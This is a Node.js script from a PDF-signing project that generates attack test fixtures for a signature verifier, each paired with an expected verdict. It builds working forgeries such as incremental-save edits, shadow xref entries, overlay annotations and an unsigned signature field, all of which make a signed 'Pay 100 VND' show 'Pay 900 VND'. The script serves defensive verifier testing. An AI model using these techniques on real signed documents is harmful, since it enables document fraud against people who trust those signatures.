// Writes attack PDFs to test-fixtures/attacks/ (see its README.md): documents signed by kyso with
// the fixture PKI, then attacked as the PDF-signature research describes (USF, ISA, SWA, Shadow,
// Evil Annotation, Sneaky Signature), each with the verdict kyso must give in expected.json.
// The tests in packages/pades/test/attacks/ build the same attacks (and more) themselves; these
// files are for trying other verifiers and the CLI: `pnpm exec kyso verify test-fixtures/attacks/x.pdf`.
// Run after `pnpm build`: node test-fixtures/scripts/gen-30-attacks.mjs
// Reproducible: fixed signing time, RSA PKCS#1 v1.5 signatures, so the same inputs give the same bytes.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

const root = fileURLToPath(new URL('../../', import.meta.url));
const { signPdf } = await import(join(root, 'packages/pades/dist/index.js'));
const { PdfDocument, PdfDict, PdfArray, PdfName, PdfString, PdfStream, listSignatures } = await import(join(root, 'packages/pdf/dist/index.js'));
const { signerFromPkcs12 } = await import(join(root, 'packages/cms/dist/index.js'));

const out = join(root, 'test-fixtures/attacks');
mkdirSync(out, { recursive: true });
const signingTime = new Date('2026-12-02T02:00:00Z');
const signer = async (name) => signerFromPkcs12(new Uint8Array(readFileSync(join(root, 'test-fixtures/pki', `${name}.p12`))), 'kyso');
const enc = (s) => new Uint8Array(Buffer.from(s, 'latin1'));
const text = (b) => Buffer.from(b).toString('latin1');
const concat = (...parts) => new Uint8Array(Buffer.concat(parts.map((p) => Buffer.from(p))));

/** A one-page PDF written by hand; `dead` objects are in the body but in no xref section. */
function rawPdf(objects, dead = []) {
  let s = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets = [];
  objects.forEach((o, i) => {
    offsets.push(s.length);
    s += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  for (const d of dead) s += `${d.num} 0 obj\n${d.body}\nendobj\n`;
  const xref = s.length;
  s += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) s += `${String(o).padStart(10, '0')} 00000 n \n`;
  s += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return enc(s);
}
const stream = (data, dict = '') => `<< ${dict} /Length ${data.length} >>\nstream\n${data}\nendstream`;
const BENIGN = 'BT /F1 24 Tf 72 720 Td (Pay 100 VND) Tj ET';
const EVIL = 'BT /F1 24 Tf 72 720 Td (Pay 900 VND) Tj ET';
const page = (contents = '4 0 R', extra = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${contents} /Resources << /Font << /F1 5 0 R >> >> ${extra} >>`;
const base = (dead = [], contents) => rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', page(contents), stream(BENIGN), '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'], dead);

/** Appends a hand-written update: objects, then an xref table with them and `entries`, /Prev to the last section. */
function appendRaw(pdf, { objects = [], entries = [], root } = {}) {
  const doc = PdfDocument.open(pdf);
  const last = doc.revisions[doc.revisions.length - 1];
  let s = '';
  const listed = [];
  for (const o of objects) {
    listed.push({ num: o.num, at: pdf.length + s.length });
    s += `${o.num} 0 obj\n${o.body}\nendobj\n`;
  }
  const all = [...listed, ...entries];
  const xref = pdf.length + s.length;
  s += 'xref\n';
  for (const e of all) s += `${e.num} 1\n${String(e.at).padStart(10, '0')} 00000 n \n`;
  const size = Math.max(doc.size, ...all.map((e) => e.num + 1));
  s += `trailer\n<< /Size ${size} /Root ${root ?? doc.catalogRef.toString()} /Prev ${last.xrefOffset} >>\nstartxref\n${xref}\n%%EOF\n`;
  return concat(pdf, enc(s));
}

/** An incremental update made with the kyso writer. */
function update(pdf, edit) {
  const doc = PdfDocument.open(pdf);
  const up = doc.beginUpdate();
  edit(doc, up);
  return up.finish().bytes;
}
const editDict = (doc, up, ref) => {
  const d = doc.getObject(ref).clone();
  up.set(ref, d);
  return d;
};
function overlay(up) {
  const ap = up.allocate();
  const helv = PdfDict.of({ Type: PdfName.of('Font'), Subtype: PdfName.of('Type1'), BaseFont: PdfName.of('Helvetica') });
  up.set(ap, PdfStream.fromData(enc('1 1 1 rg 0 0 300 60 re f 0 g BT /Helv 24 Tf 12 20 Td (Pay 900 VND) Tj ET'), PdfDict.of({ Type: PdfName.of('XObject'), Subtype: PdfName.of('Form'), BBox: PdfArray.of([0, 0, 300, 60]), Resources: PdfDict.of({ Font: PdfDict.of({ Helv: helv }) }) }), { compress: false }));
  return ap;
}
function addToAnnots(doc, up, ref) {
  const p = editDict(doc, up, doc.getPage(0).ref);
  const annots = p.getArray('Annots', doc)?.clone() ?? PdfArray.of();
  annots.push(ref);
  p.set('Annots', annots);
}
const deadOffset = (pdf, num) => text(pdf).lastIndexOf(`\n${num} 0 obj\n`) + 1;

const leader = await signer('leader');
const drafter = await signer('drafter');
const head = await signer('head');
const sign = (pdf, s = leader, opts = {}) => signPdf(pdf, { signer: s, signingTime, ...opts });

const files = {};
const put = (name, bytes, expected) => {
  writeFileSync(join(out, name), bytes);
  files[name] = expected;
};

const honest = await sign(base());
put('honest-signed.pdf', honest, { pass: true });
put('honest-two-signatures.pdf', await sign(honest, head), { pass: true });

// Incremental Saving Attack: the content stream redefined after signing.
put(
  'isa-content-changed.pdf',
  update(honest, (doc, up) => up.set(doc.getPage(0).dict.getRef('Contents'), PdfStream.fromData(enc(EVIL), PdfDict.of(), { compress: false }))),
  { pass: false, kind: 'object-modified' },
);

// Shadow Hide: a hidden body of object 4 in the signed bytes; the update is only an xref entry.
const prepared = await sign(base([{ num: 4, body: stream(EVIL) }]));
put('shadow-hide-xref-only.pdf', appendRaw(prepared, { entries: [{ num: 4, at: deadOffset(prepared, 4) }] }), { pass: false, kind: 'xref-shadow-entry' });

// Shadow Hide via a dangling reference: the page refers to object 50, defined only after signing.
const dangling = await sign(base([], '[4 0 R 50 0 R]'));
put('shadow-dangling-reference.pdf', appendRaw(dangling, { objects: [{ num: 50, body: stream('1 1 1 rg 60 700 300 60 re f 0 g BT /F1 24 Tf 72 720 Td (VOID) Tj ET') }] }), { pass: false, kind: 'dangling-reference' });

// Evil Annotation Attack: a FreeText over the amount in a document certified with P=2 (and P=3).
for (const p of [2, 3]) {
  const certified = await sign(base(), drafter, { certify: p });
  put(
    `eaa-freetext-p${p}.pdf`,
    update(certified, (doc, up) => {
      const a = up.allocate();
      up.set(a, PdfDict.of({ Type: PdfName.of('Annot'), Subtype: PdfName.of('FreeText'), Rect: PdfArray.of([60, 700, 360, 760]), F: 4, DA: PdfString.fromLatin1('/Helv 24 Tf 0 g'), Contents: PdfString.fromText('Pay 900 VND'), AP: PdfDict.of({ N: overlay(up) }) }));
      addToAnnots(doc, up, a);
    }),
    { pass: false, kind: 'annotation-added' },
  );
}

// Sneaky Signature Attack: a visible, unsigned signature field over the amount after P=2.
const p2 = await sign(base(), drafter, { certify: 2 });
put(
  'ssa-unsigned-visible-field-p2.pdf',
  update(p2, (doc, up) => {
    const w = up.allocate();
    up.set(w, PdfDict.of({ Type: PdfName.of('Annot'), Subtype: PdfName.of('Widget'), FT: PdfName.of('Sig'), T: PdfString.fromText('Sneaky'), Rect: PdfArray.of([60, 700, 360, 760]), F: 4, P: doc.getPage(0).ref, AP: PdfDict.of({ N: overlay(up) }) }));
    addToAnnots(doc, up, w);
    const form = editDict(doc, up, doc.catalog.getRef('AcroForm'));
    const fields = form.getArray('Fields', doc).clone();
    fields.push(w);
    form.set('Fields', fields);
  }),
  { pass: false, kind: 'signature-field-added' },
);
put('honest-p2-second-visible-signature.pdf', await sign(p2, head, { field: { name: 'Head', page: 0, rect: [60, 600, 260, 660] }, appearance: true }), { pass: true });

// Universal Signature Forgery: /Contents zeroed (same length).
const s0 = listSignatures(PdfDocument.open(honest))[0];
const zeroed = honest.slice();
zeroed.fill(0x30, s0.contentsSpan.start + 1, s0.contentsSpan.end - 1);
put('usf-contents-zeroed.pdf', zeroed, { pass: false, format: true });

// Signature Wrapping: non-zero data hidden after the DER inside /Contents.
const hidden = honest.slice();
hidden.set(enc('4556494C'), s0.contentsSpan.end - 9);
put('swa-data-after-der.pdf', hidden, { pass: false, format: true });

// A /Prev that skips the second signature's update.
const two = await sign(honest, head);
{
  const first = PdfDocument.open(honest);
  const doc = PdfDocument.open(two);
  const skip = `xref\ntrailer\n<< /Size ${doc.size} /Root ${doc.catalogRef.toString()} /Prev ${first.revisions[first.revisions.length - 1].xrefOffset} >>\nstartxref\n${two.length}\n%%EOF\n`;
  put('hidden-revision-prev-skip.pdf', concat(two, enc(skip)), { pass: false, kind: 'hidden-revision' });
}

// An object after the last %%EOF.
put('trailing-object.pdf', concat(honest, enc(`4 0 obj\n${stream(EVIL)}\nendobj\n`)), { pass: false, kind: 'trailing-data' });

writeFileSync(join(out, 'expected.json'), `${JSON.stringify(files, null, 2)}\n`);
console.log(`wrote ${Object.keys(files).length} files to ${out}`);
